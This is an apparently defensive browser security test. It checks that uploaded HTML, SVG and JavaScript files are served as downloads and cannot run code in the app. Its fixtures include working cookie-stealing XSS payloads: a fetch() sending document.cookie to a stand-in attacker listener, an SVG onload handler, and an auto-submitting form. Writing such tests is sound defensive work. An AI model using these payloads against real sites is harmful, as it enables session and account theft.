/**
 * Files people upload are served from the app's own origin, so an HTML, SVG or JavaScript
 * file must never run as part of the app: opened, framed or loaded as a script it runs no
 * code and posts no form (downloads, a sandboxing CSP, no type sniffing). A listener on
 * another port stands for the attacker's server and must hear nothing.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ulid } from 'ulidx';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchBrowser, newContext } from './support/browser';
import { freshAccount } from './support/fresh-account';

const baseUrl = inject('baseUrl');

describe('hostile files', () => {
	let browser: Browser;
	let ctx: BrowserContext;
	let page: Page;
	let attacker: Server;
	let attackerUrl = '';
	const heard: string[] = [];
	const urls: Record<string, string> = {};

	beforeAll(async () => {
		attacker = createServer((req, res) => {
			heard.push(`${req.method} ${req.url}`);
			res.end('ok');
		});
		await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
		attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

		const user = await freshAccount('files');
		browser = await launchBrowser();
		ctx = await newContext(browser);
		page = await ctx.newPage();
		const login = await page.request.post(`${baseUrl}/db/_session`, {
			data: { name: user.name, password: user.password }
		});
		expect(login.ok()).toBe(true);
		const me = (await (await page.request.get(`${baseUrl}/api/me`)).json()) as {
			workspaces: { db: string }[];
		};
		const db = me.workspaces[0]!.db;
		const steal = `fetch('${attackerUrl}/stolen?c=' + document.cookie)`;
		const files = {
			html: {
				type: 'text/html',
				name: 'invoice.html',
				body: `<html><body><script>window.parent.pwned = 'html'; ${steal}</script>
					<form id=f action="${attackerUrl}/form" method=post><input name=x value=1></form>
					<script>document.getElementById('f').submit()</script></body></html>`
			},
			svg: {
				type: 'image/svg+xml',
				name: 'logo.svg',
				body: `<svg xmlns="http://www.w3.org/2000/svg" onload="window.parent.pwned='svg'; ${steal}"><script>${steal}</script></svg>`
			},
			js: {
				type: 'application/javascript',
				name: 'helper.js',
				body: `window.pwned = 'js'; ${steal}`
			}
		};
		const task = `task:${ulid()}`;
		for (const [key, f] of Object.entries(files)) {
			const id = `attachment:${task.slice(5)}:${ulid()}`;
			const at = new Date().toISOString();
			const bytes = Buffer.from(f.body);
			const put = await page.request.put(`${baseUrl}/db/${db}/${encodeURIComponent(id)}`, {
				data: {
					_id: id,
					type: 'attachment',
					task,
					comment: null,
					name: f.name,
					contentType: f.type,
					size: bytes.length,
					width: null,
					height: null,
					createdBy: user.name,
					createdAt: at,
					updatedAt: at,
					_attachments: { file: { content_type: f.type, data: bytes.toString('base64') } }
				}
			});
			expect(put.status(), await put.text()).toBe(201);
			urls[key] = `${baseUrl}/db/${db}/${encodeURIComponent(id)}/file`;
		}
		await page.goto(`${baseUrl}/`);
	});

	afterAll(async () => {
		await browser?.close();
		attacker?.close();
	});

	it('opening a file downloads it instead of running it in the app', async () => {
		for (const key of ['html', 'svg', 'js']) {
			const tab = await ctx.newPage();
			const download = tab.waitForEvent('download', { timeout: 10_000 });
			await tab.goto(urls[key]!).catch(() => undefined);
			// A download (named after the stored part, `file`), not a page of the app.
			expect((await download).suggestedFilename()).toBe('file');
			expect(tab.url()).not.toBe(urls[key]);
			await tab.close();
		}
	});

	it('framed, as an image or as a script, a file runs nothing and posts nothing', async () => {
		await page.evaluate(async (u) => {
			const wait = (el: HTMLElement) =>
				new Promise<void>((resolve) => {
					el.addEventListener('load', () => resolve());
					el.addEventListener('error', () => resolve());
					setTimeout(resolve, 3000);
				});
			for (const src of [u.html, u.svg]) {
				const frame = document.createElement('iframe');
				frame.src = src!;
				document.body.append(frame);
				await wait(frame);
			}
			const img = document.createElement('img');
			img.src = u.svg!;
			document.body.append(img);
			await wait(img);
			const script = document.createElement('script');
			script.src = u.js!;
			document.body.append(script);
			await wait(script);
		}, urls);
		await page.waitForTimeout(1000);
		expect(await page.evaluate(() => (window as { pwned?: string }).pwned)).toBeUndefined();
		expect(heard).toEqual([]);
	});
});
